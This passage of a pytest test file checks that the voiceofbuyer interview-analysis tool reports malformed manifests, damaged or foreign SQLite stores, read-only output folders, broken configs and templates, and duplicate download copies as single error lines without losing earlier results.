    # name: (interviews.csv, exit code, a line about it, northwind's company: the manifest's "Manifest Co" where it
    # is read, else the one the buyer names in introducing herself)
    "binary": (garbage(3000, 21), 1, r"^skipped: interviews\.csv: not a text file", "Northwind Freight"),
    "no-file-column": (b"name,title\nnorthwind-cfo.txt,CFO\n", 1, r"^skipped: interviews\.csv:1: no 'file' column",
                       "Northwind Freight"),
    "empty": (b"", 1, r"^skipped: interviews\.csv:1: no 'file' column", "Northwind Freight"),
    "field-too-large": ((MANIFEST_HEADER + "pinecrest-cfo.vtt,Raj," + "x" * 200_000 + ",P\n" + GOOD_MANIFEST_ROW)
                        .encode(), 0, r"^warning: interviews\.csv:2: unreadable CSV row", "Manifest Co"),
    "unterminated-quote": ((MANIFEST_HEADER + 'pinecrest-cfo.vtt,"Raj,CFO,P\n' + GOOD_MANIFEST_ROW).encode(), 0,
                           r"^warning: interviews\.csv:2: a quote opened in this row is never closed", "Manifest Co"),
    "unterminated-quote-last-row": ((MANIFEST_HEADER + GOOD_MANIFEST_ROW + '"pinecrest-cfo.vtt,Raj\n').encode(), 0,
                                    r"^warning: interviews\.csv:3: a quote opened in this row is never closed",
                                    "Manifest Co"),
    "nul-in-row": ((MANIFEST_HEADER + "pinecrest-cfo.vtt,R\x00aj,CFO,P\n" + GOOD_MANIFEST_ROW).encode(), 0, "",
                   "Manifest Co"),
    "utf-16": ((MANIFEST_HEADER + GOOD_MANIFEST_ROW).encode("utf-16"), 0, "", "Manifest Co"),
    "semicolons-crlf": ((MANIFEST_HEADER + GOOD_MANIFEST_ROW).replace(",", ";").replace("\n", "\r\n").encode(), 0,
                        "", "Manifest Co"),
    "path-outside": ((MANIFEST_HEADER + "../northwind-cfo.txt,Dana,CFO,Outside Co\n" + GOOD_MANIFEST_ROW).encode(),
                     0, r"^warning: interviews\.csv:2: row for '\.\./northwind-cfo\.txt' matches no file",
                     "Manifest Co"),
}  # fmt: skip


@pytest.mark.parametrize("name", list(MANIFESTS))
def test_a_broken_manifest_is_one_line_and_every_interview_is_still_read(name: str, shared: Shared, tmp_path):
    manifest, code, pattern, company = MANIFESTS[name]
    out = copy_outputs(shared, tmp_path / "outputs")
    batch = tmp_path / "batch"
    batch.mkdir()
    for good in (*GOOD, "voiceofbuyer.toml"):
        shutil.copy(shared.batch / good, batch / good)
    (batch / "interviews.csv").write_bytes(manifest)
    outcome = run_batch(batch, out)
    assert outcome.code == code and "Traceback" not in outcome.screen, outcome.screen
    lines = outcome.lines_naming("interviews.csv")
    assert all(ONE_LINE.match(line) for line in lines)
    if pattern:
        assert len(lines) == 1 and re.search(pattern, lines[0]), lines
    else:
        assert not lines
    assert outcome.interview_ids() == set(GOOD_IDS)
    meta = {i["id"]: i["metadata"] for i in outcome.document()["interviews"]}
    assert meta["northwind-cfo"]["company"] == company
    assert meta["pinecrest-cfo"]["company"] == "Pinecrest Software"


def garbage_store(store: Path) -> None:
    store.write_bytes(garbage(100_000, 22))


def truncated_store(store: Path) -> None:
    with store.open("r+b") as stream:
        stream.truncate(store.stat().st_size // 3)


def damaged_store(store: Path) -> None:
    """Pages in the middle overwritten: the header is fine, so only a check of the whole file finds it."""
    with store.open("r+b") as stream:
        for offset in range(4096 * 3, store.stat().st_size, 4096 * 7):
            stream.seek(offset)
            stream.write(garbage(4096, offset))


def folder_store(store: Path) -> None:
    store.unlink()
    store.mkdir()
    (store / "x").write_text("x")


def foreign_store(store: Path) -> None:
    """Another program's SQLite database under the store's name."""
    store.unlink()
    with contextlib.closing(sqlite3.connect(store)) as db:
        db.execute("CREATE TABLE runs (id INTEGER PRIMARY KEY, name TEXT)")
        db.execute("INSERT INTO runs (name) VALUES ('not ours')")
        db.commit()


STORES = [
    pytest.param(garbage_store, id="garbage"),
    pytest.param(truncated_store, id="truncated"),
    pytest.param(damaged_store, id="damaged-pages"),
    pytest.param(folder_store, id="a-folder"),
    pytest.param(foreign_store, id="another-programs-database"),
]  # fmt: skip
DAMAGED = (garbage_store, truncated_store, damaged_store)


@pytest.mark.parametrize("spoil", STORES)
def test_an_unusable_store_stops_the_run_in_one_line_and_keeps_the_last_results(spoil, shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    spoil(out / "voiceofbuyer.sqlite")
    batch = tmp_path / "batch"
    batch.mkdir()
    shutil.copy(SAMPLE / "northwind-cfo.txt", batch)
    line = assert_one_error_line(run_batch(batch, out), "voiceofbuyer.sqlite")
    assert documents_of(out) == before
    if spoil in DAMAGED:
        assert "damaged" in line and list(out.glob("voiceofbuyer.sqlite.damaged-*")), "a copy is kept first"


@pytest.mark.parametrize("command", ["render", "personas", "roles", "objections"])
@pytest.mark.parametrize("name", ["garbage", "damaged-pages"])
def test_every_command_on_a_damaged_store_is_one_line(command: str, name: str, shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    {"garbage": garbage_store, "damaged-pages": damaged_store}[name](out / "voiceofbuyer.sqlite")
    assert_one_error_line(invoke(command, "--out", out), "voiceofbuyer.sqlite", "damaged")
    assert documents_of(out) == before
    if command == "render":  # again, a second later: the copy already kept is named, not made a second time
        time.sleep(1.1)
        invoke(command, "--out", out)
        assert len(list(out.glob("voiceofbuyer.sqlite.damaged-*"))) == 1


CORRUPT_ROWS = [
    pytest.param("UPDATE themes SET data = '{not json' WHERE rowid = (SELECT min(rowid) FROM themes)", id="theme"),
    pytest.param("UPDATE personas SET data = '[]' WHERE rowid = (SELECT min(rowid) FROM personas)", id="persona"),
    pytest.param("UPDATE interviews SET profile = 'null' WHERE rowid = (SELECT min(rowid) FROM interviews)",
                 id="interview"),
    pytest.param("UPDATE runs SET summary = '{cut' WHERE id = (SELECT max(id) FROM runs)", id="run-summary"),
]  # fmt: skip


@pytest.mark.parametrize("command", ["render", "personas", "objections"])
@pytest.mark.parametrize("update", CORRUPT_ROWS)
def test_a_corrupt_row_in_the_store_is_one_line_not_a_traceback(update: str, command: str, shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    with contextlib.closing(sqlite3.connect(out / "voiceofbuyer.sqlite")) as db:
        db.execute(update)
        db.commit()
    assert_one_error_line(invoke(command, "--out", out), "voiceofbuyer.sqlite")
    assert documents_of(out) == before


def test_an_output_folder_that_is_a_file_is_one_line(shared: Shared, tmp_path):
    out = tmp_path / "outputs"
    out.write_text("not a folder")
    assert_one_error_line(run_batch(shared.batch, out), "outputs")
    assert out.read_text() == "not a folder"


def test_a_read_only_output_folder_is_one_line_that_names_the_real_cause(shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    batch = tmp_path / "batch"
    batch.mkdir()
    shutil.copy(SAMPLE / "northwind-cfo.txt", batch)
    for path in (out, out / "voiceofbuyer.sqlite"):
        path.chmod(0o555 if path.is_dir() else 0o444)
    try:
        if os.access(out, os.W_OK):
            pytest.skip("chmod cannot take write access away here (running as root)")
        line = assert_one_error_line(run_batch(batch, out), "voiceofbuyer.sqlite")
        assert "cannot be written" in line
    finally:
        out.chmod(0o755)
        (out / "voiceofbuyer.sqlite").chmod(0o644)
    assert documents_of(out) == before


def test_an_unreadable_manifest_is_one_line_and_every_interview_is_still_read(shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    batch = tmp_path / "batch"
    batch.mkdir()
    for good in (*GOOD, "voiceofbuyer.toml"):
        shutil.copy(shared.batch / good, batch / good)
    manifest = batch / "interviews.csv"
    manifest.write_text(MANIFEST_HEADER + GOOD_MANIFEST_ROW)
    manifest.chmod(0)
    try:
        if os.access(manifest, os.R_OK):
            pytest.skip("chmod cannot take read access away here (running as root)")
        outcome = run_batch(batch, out)
    finally:
        manifest.chmod(0o644)
    assert outcome.code == 1 and "Traceback" not in outcome.screen
    lines = outcome.lines_naming("interviews.csv")
    assert len(lines) == 1 and lines[0].startswith("skipped: interviews.csv: cannot be read"), lines
    assert outcome.interview_ids() == set(GOOD_IDS)


BROKEN_CONFIGS = {
    "syntax": "[clustering\n",
    "binary": garbage(500, 24),
    "unknown-key": "[clustering]\nminimum_size = 3\n",
    "wrong-type": '[clustering]\nmin_cluster_size = "three"\n',
    "out-of-range": "[clustering]\nmin_cluster_size = -4\n",
}


@pytest.mark.parametrize("name", list(BROKEN_CONFIGS))
def test_a_broken_config_in_the_batch_folder_stops_the_run_in_one_line(name: str, shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    batch = tmp_path / "batch"
    batch.mkdir()
    shutil.copy(SAMPLE / "northwind-cfo.txt", batch)
    config = BROKEN_CONFIGS[name]
    (batch / "voiceofbuyer.toml").write_bytes(config if isinstance(config, bytes) else config.encode())
    assert_one_error_line(run_batch(batch, out), "voiceofbuyer.toml")
    assert documents_of(out) == before


BROKEN_TEMPLATES = {
    # name: (file, text, the command that meets it)
    "syntax": ("persona.md.j2", "## {{ persona.role }}\n{% if %}\n", "run"),
    "unknown-field": ("persona.md.j2", "## {{ persona.role }}\n{{ persona.no_such_field }}\n", "render"),
    "division-by-zero": ("index.html.j2", "<p>{{ 1 / 0 }}</p>\n", "render"),
    "missing-include": ("index.html.j2", '{% include "nowhere.j2" %}\n', "render"),
    "not-utf-8": ("persona.html.j2", "<h1>{{ persona.role }}</h1> \xe9t\xe9".encode("latin-1"), "run"),
}


@pytest.mark.parametrize("name", list(BROKEN_TEMPLATES))
def test_a_broken_template_is_one_line_naming_it_and_keeps_the_last_results(name: str, shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    before = documents_of(out)
    templates = tmp_path / "templates"
    templates.mkdir()
    file, text, command = BROKEN_TEMPLATES[name]
    (templates / file).write_bytes(text if isinstance(text, bytes) else text.encode())
    if command == "run":
        batch = tmp_path / "batch"
        batch.mkdir()
        shutil.copy(SAMPLE / "northwind-cfo.txt", batch)
        outcome: Outcome | tuple[int, str, str] = run_batch(batch, out, "--templates", str(templates))
    else:
        outcome = invoke("render", "--out", out, "--templates", templates)
    line = assert_one_error_line(outcome, f"{templates / file}")
    assert "template cannot be used" in line and "unexpected internal error" not in line
    assert documents_of(out) == before


def test_a_damaged_cache_entry_is_computed_again_not_a_crash(shared: Shared, tmp_path):
    out = copy_outputs(shared, tmp_path / "outputs")
    with contextlib.closing(sqlite3.connect(out / "voiceofbuyer.sqlite")) as db:
        db.execute("UPDATE cache SET value = '{cut' WHERE kind = 'verdict'")
        db.commit()
    batch = tmp_path / "batch"
    batch.mkdir()
    for good in (*GOOD, "voiceofbuyer.toml"):
        shutil.copy(shared.batch / good, batch / good)
    outcome = run_batch(batch, out)
    assert outcome.code == 0 and "Traceback" not in outcome.screen, outcome.err


def test_a_finished_run_is_read_from_an_output_folder_that_cannot_be_written(shared: Shared, tmp_path, monkeypatch):
    """Results on a read-only mount, or shared with someone who may only read them (tester M): personas, roles,
    objections and a decisions export read the store (opened read-only and immutable: SQLite could not make the
    files a WAL store's readers need there); an import says the folder cannot be written, before reading its file.
    Write access is taken away by ``os.access``, as chmod cannot take it from root; checked for real as a user
    without write access while this was made."""
    import sqlite3

    out = copy_outputs(shared, tmp_path / "outputs")
    expected = invoke("personas", "--out", out)
    writable = os.access
    unwritable(monkeypatch, out)
    opened = []
    connect = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda target, *a, **kw: opened.append(target) or connect(target, *a, **kw))
    listing_now = sorted(p.name for p in out.iterdir())
    for command in (["personas"], ["roles"], ["objections", "--format", "json"]):
        assert invoke(*command, "--out", out)[0] == 0, command
    assert invoke("decisions", "export", tmp_path / "exported.jsonl", "--out", out)[0] == 0
    assert opened and all(str(target).endswith("?mode=ro&immutable=1") for target in opened), opened
    assert sorted(p.name for p in out.iterdir()) == listing_now
    with pytest.MonkeyPatch.context() as undo:
        undo.setattr(os, "access", writable)
        assert invoke("personas", "--out", out) == expected  # the same answer as with write access
    code, _, err = invoke("decisions", "import", tmp_path / "exported.jsonl", "--out", out)
    assert code == 2 and "the output folder or its store cannot be written" in err and "Traceback" not in err


def unwritable(monkeypatch: pytest.MonkeyPatch, *paths: Path) -> None:
    """``os.access`` says ``paths`` (and what is inside them) cannot be written, as chmod cannot take it from root."""
    writable = os.access
    inside = [path.resolve() for path in paths]
    monkeypatch.setattr(os, "access", lambda path, mode, **kw: writable(path, mode, **kw) and not (
        mode == os.W_OK and any(Path(path).resolve().is_relative_to(p) for p in inside)))  # fmt: skip


def test_decisions_not_yet_out_of_the_write_ahead_log_are_read_where_the_folder_cannot_be_written(
    shared: Shared, tmp_path, monkeypatch
):
    """While the desk runs, or after it was killed, the newest decisions wait in voiceofbuyer.sqlite-wal: a reader
    without write access must see them, not an immutable view of the main file without them (tester P)."""
    import sqlite3

    out = copy_outputs(shared, tmp_path / "outputs")
    writer = sqlite3.connect(out / "voiceofbuyer.sqlite", isolation_level=None)
    writer.execute("PRAGMA wal_autocheckpoint = 0")
    before = writer.execute("SELECT count(*) FROM decisions").fetchone()[0]
    writer.execute("INSERT INTO decisions (made, reviewer, action, role, statement_ids, payload, summary) "
                   "VALUES ('2026-12-04T00:00:00Z', 'Tess', 'approve', 'Finance', '[]', '{}', 'approved')")  # fmt: skip
    try:
        assert (out / "voiceofbuyer.sqlite-wal").stat().st_size > 0
        unwritable(monkeypatch, out)
        code, said, _ = invoke("decisions", "export", tmp_path / "exported.jsonl", "--out", out)
        assert code == 0 and f"{before + 1} decisions written" in said, said
    finally:
        writer.close()


def test_a_read_only_store_file_is_read_and_never_left_with_files_beside_it(shared: Shared, tmp_path, monkeypatch):
    """A copy of results whose store kept mode 444 (``cp -r`` from a read-only share) in a writable folder: read
    commands read it and leave nothing beside it; a writing command names the read-only file (tester P)."""
    out = copy_outputs(shared, tmp_path / "outputs")
    listing_now = sorted(p.name for p in out.iterdir())
    unwritable(monkeypatch, out / "voiceofbuyer.sqlite")
    for command in (["personas"], ["roles"], ["objections"]):
        assert invoke(*command, "--out", out)[0] == 0, command
    code, _, err = invoke("render", "--out", out)
    assert code == 2 and "the store file is read-only" in err and "Traceback" not in err, err
    assert sorted(p.name for p in out.iterdir()) == listing_now  # no -wal or -shm left to block the next try


@pytest.mark.parametrize(
    ("kind", "said"),
    [
        ("foreign", "not a voiceofbuyer store"),
        ("empty", "no run in this store"),
        ("newer", "newer voiceofbuyer"),
        ("damaged", "the store is damaged"),
    ],
)
def test_a_store_read_where_it_cannot_be_written_is_checked_as_at_any_open(shared, tmp_path, monkeypatch, kind, said):
    """Another program's database, an empty file, a store of a newer schema, a damaged one: one line, exit 2, as
    with write access, not an internal error, a silent misreading or a wrong cause (tester P)."""
    import sqlite3

    out = copy_outputs(shared, tmp_path / "outputs")
    store = out / "voiceofbuyer.sqlite"
    if kind in ("foreign", "empty"):
        store.unlink()
    db = sqlite3.connect(store, isolation_level=None)
    if kind == "foreign":
        db.execute("CREATE TABLE t (x)")
    if kind == "newer":
        db.execute("UPDATE meta SET value = '99' WHERE key = 'schema_version'")
    db.close()
    if kind == "damaged":
        with store.open("r+b") as handle:
            handle.seek(store.stat().st_size // 2)
            handle.write(b"\xff" * 40_000)
    unwritable(monkeypatch, out)
    for command in (["personas"], ["decisions", "export", str(tmp_path / "d.jsonl")]):
        code, _, err = invoke(*command, "--out", out)
        assert code == 2 and said in err and "Traceback" not in err and len(err.strip().splitlines()) == 1, err


def test_sqlites_report_of_a_damaged_store_is_told_in_one_line():
    """``quick_check`` lists one problem a line (a CI machine's damaged copy gave a screenful): the error names the
    first and counts the rest."""
    from voiceofbuyer.store import _first_problem

    report = "*** in database main ***\nOn tree page 639 cell 1: invalid page number -1\nPage 505 is never used\n"
    assert _first_problem(report) == "On tree page 639 cell 1: invalid page number -1 and 1 more"
    assert _first_problem("row 3 missing from index x") == "row 3 missing from index x"


def test_a_store_in_a_folder_that_cannot_be_written_says_so_and_names_no_missing_file(tmp_path, monkeypatch):
    """An output folder on a read-only mount: SQLite says only "unable to open database file" (tester M)."""
    import sqlite3

    from voiceofbuyer import store_problems

    monkeypatch.setattr(store_problems.os, "access", lambda *args, **kwargs: False)
    line = store_problems.store_problem(
        tmp_path / "voiceofbuyer.sqlite", sqlite3.OperationalError("unable to open database file")
    )
    assert "the output folder cannot be written" in line
    other = store_problems.store_problem(tmp_path / "voiceofbuyer.sqlite", sqlite3.OperationalError("disk I/O error"))
    assert "decisions.jsonl" not in other  # there is no plain copy of the decisions there to point to


def test_a_browsers_second_download_is_the_copy_not_the_original(tmp_path: Path) -> None:
    from voiceofbuyer.ingest.batch_files import batch_files

    for name in ("call (1).vtt", "call.vtt", "call (2).vtt", "b.txt"):
        (tmp_path / name).write_text("WEBVTT\n")
    assert batch_files(tmp_path) == ["b.txt", "call.vtt", "call (1).vtt", "call (2).vtt"]


def test_a_copy_named_as_drive_windows_or_macos_name_it_is_the_copy_not_the_original(tmp_path: Path) -> None:
    """Of two identical files, "Copy of acme.txt" was read and acme.txt skipped as "a copy of Copy of acme.txt"."""
    from voiceofbuyer.ingest import read_batch

    text = "Mia Ross: How do you close the month?\nSanjay Patel: In spreadsheets, and it takes eight days.\n"
    for name in (
        "Copy of acme.txt",
        "acme.txt",
        "acme - Copy (2).txt",
        "acme copy 2.txt",
        "sub/Copy (1) of beta.txt",
        "sub/beta.txt",
    ):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(text if "acme" in name else text.replace("eight", "nine"))
    batch = read_batch(tmp_path)
    assert [interview.source for interview in batch.interviews] == ["acme.txt", "sub/beta.txt"]
    assert sorted(p.path for p in batch.problems) == [
        "Copy of acme.txt",
        "acme - Copy (2).txt",
        "acme copy 2.txt",
        "sub/Copy (1) of beta.txt",
    ]
    assert all("a copy of acme.txt" in p.message or "a copy of sub/beta.txt" in p.message for p in batch.problems)
